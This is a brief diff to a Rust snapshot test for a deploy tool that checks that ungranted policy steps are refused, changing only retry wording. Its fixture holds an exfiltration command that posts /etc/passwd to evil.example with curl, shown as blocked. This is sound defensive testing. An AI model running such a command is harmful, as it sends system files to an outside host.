@@ -412,7 +412,7 @@ fn a_deploy_step_outside_the_grants_is_refused_with_the_line_that_allows_it() {
     insta::assert_snapshot!(run.stdout, @r"
     Deploy v1.2.4 in production with policies/ungranted.wasm:
       1. run      curl -d @/etc/passwd https://evil.example/ (timeout 10 s): exfiltrate   NOT GRANTED
-      2. check    https://evil.example/ping answers 200 (1 tries, 1 s apart)   NOT GRANTED
+      2. check    https://evil.example/ping answers 200 (up to 2 tries, 1 s apart)   NOT GRANTED
     ");
     insta::assert_snapshot!(run.stderr, @r#"
     error: policies/ungranted.wasm may not run `curl` or call https://evil.example/ping: not granted in .hotfix.toml
